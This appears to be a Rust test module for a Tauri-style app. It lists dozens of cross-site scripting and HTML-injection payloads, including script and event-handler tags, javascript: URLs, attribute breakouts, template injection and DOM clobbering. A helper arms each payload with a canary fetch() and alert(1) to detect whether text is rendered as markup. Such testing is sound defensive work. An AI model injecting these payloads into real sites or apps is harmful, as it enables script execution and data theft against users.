//! Texts that would run a script, open a dialog or call out wherever they are taken for markup.

/// `HIT` counts the payload, opens a dialog and asks the server of the payloads, `WHERE`.
pub const PAYLOADS: &[&str] = &[
    "<script>HIT</script>",
    "<script src='WHERE/script.js'></script>",
    "<SCRIPT type=module>import('WHERE/module.js')</SCRIPT>",
    "<img src=x onerror=\"HIT\">",
    "<img src='WHERE/picture.png'>",
    "<img srcset='WHERE/set.png 2x'>",
    "<picture><source srcset='WHERE/source.webp'><img></picture>",
    "<svg onload=\"HIT\"></svg>",
    "<svg><script>HIT</script></svg>",
    "<svg><image href='WHERE/image.svg'/></svg>",
    "<svg><use href='WHERE/use.svg#a'/></svg>",
    "<svg><animate onbegin=\"HIT\" attributeName=x dur=1s></svg>",
    "<svg><foreignObject><img src=x onerror=\"HIT\"></foreignObject></svg>",
    "<math><mtext><img src=x onerror=\"HIT\"></mtext></math>",
    "<iframe src='WHERE/frame.html'></iframe>",
    "<iframe srcdoc=\"<script>parent.HIT</script>\"></iframe>",
    "<iframe src=\"javascript:parent.HIT\"></iframe>",
    "<object data='WHERE/object.swf'></object>",
    "<embed src='WHERE/embed.swf'>",
    "<video autoplay src='WHERE/video.mp4' onerror=\"HIT\"></video>",
    "<video poster='WHERE/poster.png'></video>",
    "<audio autoplay src='WHERE/audio.mp3' onerror=\"HIT\"></audio>",
    "<track default src='WHERE/track.vtt'>",
    "<link rel=stylesheet href='WHERE/style.css'>",
    "<link rel=prefetch href='WHERE/prefetch'>",
    "<link rel=dns-prefetch href='WHERE/'>",
    "<style>@import 'WHERE/import.css'; * { background: url(WHERE/background.png) }</style>",
    "<p style=\"background: url('WHERE/inline.png')\">text</p>",
    "<p style='position: fixed; inset: 0; z-index: 999'>over everything</p>",
    "<meta http-equiv=refresh content='0; url=WHERE/refresh'>",
    "<base href='WHERE/base/'>",
    "<form action='WHERE/form'><input name=a value=b><button autofocus>Go</button></form>",
    "<input autofocus onfocus=\"HIT\">",
    "<select autofocus onfocus=\"HIT\"></select>",
    "<textarea autofocus onfocus=\"HIT\"></textarea>",
    "<details open ontoggle=\"HIT\"><summary>more</summary></details>",
    "<dialog open onclose=\"HIT\">A dialog</dialog>",
    "<marquee onstart=\"HIT\">text</marquee>",
    "<body onload=\"HIT\" background='WHERE/body.png'>",
    "<table background='WHERE/table.png'><tr><td>text</table>",
    "<a href=\"javascript:HIT\">a link</a>",
    "<a ping='WHERE/ping' href='WHERE/link'>a link</a>",
    "<template><script>HIT</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror='HIT'>\"></noscript>",
    "<xss onpointerrawupdate=\"HIT\" tabindex=1 onfocus=\"HIT\" autofocus>text</xss>",
    "\"><script>HIT</script>",
    "'><img src=x onerror=\"HIT\">",
    "\" onmouseover=\"HIT\" autofocus onfocus=\"HIT\" x=\"",
    "</title><script>HIT</script>",
    "</textarea></style></script><script>HIT</script>",
    "--><script>HIT</script><!--",
    "{@html '<img src=x onerror=\"HIT\">'}",
    "{{constructor.constructor('HIT')()}}",
    "${HIT}",
    "javascript:HIT",
    "data:text/html,<script>HIT</script>",
    "<a id=__TAURI_INTERNALS__ href='WHERE/clobbered'>a name</a>",
];

/// What tells that one of them was obeyed, in each of three ways.
pub fn armed(payload: &str, canary: &str) -> String {
    let hit = format!("(window.tideHit=(window.tideHit||0)+1,fetch('{canary}/hit'),alert(1))");
    payload.replace("HIT", &hit).replace("WHERE", canary)
}

/// As a feed writes text that is to be read letter by letter.
pub fn quoted(text: &str) -> String {
    text.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;")
}
